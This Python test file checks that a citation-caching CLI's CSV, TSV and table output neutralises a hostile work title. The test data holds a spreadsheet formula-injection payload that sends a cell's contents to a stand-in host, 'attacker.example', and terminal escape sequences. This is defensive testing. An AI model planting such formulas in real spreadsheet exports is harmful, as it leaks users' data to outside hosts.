"""Output a lab opens: CSV and TSV cells a spreadsheet cannot run, no terminal escapes in any output.

The fake upstream answers the recorded Raptor work (10.1101/598821) with its title replaced by a formula
and a terminal escape, as a hostile or broken deposit could carry; ``cache ls`` (csv, tsv, table) and
``check --output csv|tsv`` must show it inert.
"""

from __future__ import annotations

import json
from pathlib import Path

from click.testing import CliRunner, Result

from syncd.cli import cli
from syncd.cli.common import spreadsheet_cell, text_cell
from syncd.config import Settings
from tests.cli.test_cli import env  # noqa: F401  (fixture: SYNCD_* pointing at the fake and a temp DB)
from tests.corpus_path import CORPUS
from tests.fakeupstream import FakeUpstream

DOI = "10.1101/598821"
HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Raptor genomes")\x1b[2J\x07'
INERT = '\'=HYPERLINK("http://attacker.example/?"&A1,"Raptor genomes")[2J'


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), obj={})


def _serve_hostile(fake: FakeUpstream, name: str = "10.1101_598821", prefix: str = "/works/10.1101") -> None:
    body = json.loads((CORPUS / "crossref" / "work" / f"{name}.json").read_text(encoding="utf-8"))
    body["message"]["title"] = [HOSTILE]
    fake.fault("wrong_shape", service="crossref", path_prefix=prefix, body=body, times=1)


def test_the_cell_rules() -> None:
    """Formula starts (=, +, -, @, after blanks, tabs or CR) get a leading quote; numbers do not;
    control characters go; booleans are true/false.
    """
    assert spreadsheet_cell("=1+1") == "'=1+1" and spreadsheet_cell("+33 1") == "'+33 1"
    assert spreadsheet_cell("-cmd") == "'-cmd" and spreadsheet_cell("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_cell("\t=1") == "'\t=1" and spreadsheet_cell("\r=1") == "'=1"
    assert spreadsheet_cell(-3) == "-3" and spreadsheet_cell(2.5) == "2.5"
    assert spreadsheet_cell(True) == "true" and text_cell(False) == "false" and text_cell(None) == ""
    assert text_cell("a\x1b[31mred\x1b[0m\x9b") == "a[31mred[0m"
    assert spreadsheet_cell("Raptor genomes") == "Raptor genomes"
    assert spreadsheet_cell("-") == "-"  # a lone dash is a placeholder, not a formula


def test_cache_ls_csv_tsv_and_table_show_a_hostile_title_inert(env: Settings, fake: FakeUpstream) -> None:  # noqa: F811
    """``cache ls`` of the stored hostile work: the CSV and TSV title cells start with ``'`` and hold no
    escape byte; the table holds no escape byte; booleans are ``true``/``false``.
    """
    _serve_hostile(fake)
    assert run("cache", "get", DOI, "--json").exit_code == 0
    csv_out = run("cache", "ls", "--format", "csv").output
    assert "\x1b" not in csv_out and "\x07" not in csv_out
    assert '"\'=HYPERLINK(""http://attacker.example/?""&A1,""Raptor genomes"")[2J"' in csv_out
    tsv = run("cache", "ls", "--format", "tsv").output.splitlines()
    header = tsv[0].split("\t")
    [row] = [line.split("\t") for line in tsv[1:] if DOI in line]
    assert row[header.index("title")] == INERT
    if "stale" in header:
        assert row[header.index("stale")] in ("true", "false")
    table = run("cache", "ls", "--format", "table").output
    assert "\x1b[2J" not in table


def test_check_csv_and_tsv_show_a_hostile_title_inert(
    env: Settings,  # noqa: F811
    fake: FakeUpstream,
    tmp_path: Path,
) -> None:
    """``check --output csv`` and ``tsv`` on a list citing the IEEE paper retracted in place, served with
    the hostile title: it is reported retracted, its title cell inert, no escape byte anywhere.
    """
    _serve_hostile(fake, "10.1109_icetce.2011.5774727", "/works/10.1109")
    refs = tmp_path / "refs.txt"
    refs.write_text("10.1109/ICETCE.2011.5774727\n", encoding="utf-8")
    assert run("cache", "get", "10.1109/ICETCE.2011.5774727", "--json").exit_code == 0
    csv_out = run("check", str(refs), "--output", "csv").output
    tsv_out = run("check", str(refs), "--output", "tsv").output
    for out in (csv_out, tsv_out):
        assert "retracted" in out and "'=HYPERLINK" in out and "\x1b" not in out
        assert "\t=HYPERLINK" not in out and ",=HYPERLINK" not in out and '"=HYPERLINK' not in out
